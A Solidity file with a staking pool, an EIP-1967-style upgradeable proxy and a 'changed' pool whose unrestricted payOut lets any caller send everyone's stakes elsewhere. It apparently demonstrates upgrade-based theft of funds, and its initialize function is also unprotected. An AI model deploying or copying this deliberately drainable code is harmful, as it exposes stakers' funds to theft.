// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.0;

import "./Token.sol";

/// Keeps what its users stake until they take it back.
contract StakingPool {
    Token public token;
    mapping(address => uint256) public staked;

    event Staked(address indexed user, uint256 amount);
    event Withdrawn(address indexed user, uint256 amount);

    function initialize(Token token_) external {
        require(address(token) == address(0), "StakingPool: initialized");
        token = token_;
    }

    function stake(uint256 amount) external {
        staked[msg.sender] += amount;
        token.transferFrom(msg.sender, address(this), amount);
        emit Staked(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        require(staked[msg.sender] >= amount, "StakingPool: balance");
        staked[msg.sender] -= amount;
        token.transfer(msg.sender, amount);
        emit Withdrawn(msg.sender, amount);
    }
}

/// The changed code: whoever calls `payOut` names who gets everybody's stakes.
contract ChangedStakingPool is StakingPool {
    function payOut(address to, uint256 amount) external {
        token.transfer(to, amount);
    }
}

/// An address whose code its administrator can change (the storage slots of EIP-1967).
contract Proxy {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    event Upgraded(address indexed implementation);

    constructor(address implementation) {
        address admin = msg.sender;
        assembly {
            sstore(ADMIN, admin)
        }
        _set(implementation);
    }

    function upgradeTo(address implementation) external {
        address admin;
        assembly {
            admin := sload(ADMIN)
        }
        require(msg.sender == admin, "Proxy: not the administrator");
        _set(implementation);
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(IMPLEMENTATION), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    receive() external payable {}

    function _set(address implementation) private {
        assembly {
            sstore(IMPLEMENTATION, implementation)
        }
        emit Upgraded(implementation);
    }
}
